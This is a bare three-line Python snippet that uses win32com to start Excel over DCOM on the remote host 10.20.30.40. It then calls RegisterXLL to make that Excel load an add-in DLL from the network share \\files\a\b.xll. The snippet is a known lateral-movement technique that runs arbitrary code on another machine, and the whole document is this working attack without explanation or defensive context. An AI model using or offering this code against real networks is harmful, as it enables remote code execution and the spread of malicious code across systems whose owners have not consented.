import win32com.client
x = win32com.client.DispatchEx("Excel.Application", "10.20.30.40")
x.RegisterXLL("\\\\files\\a\\b.xll")
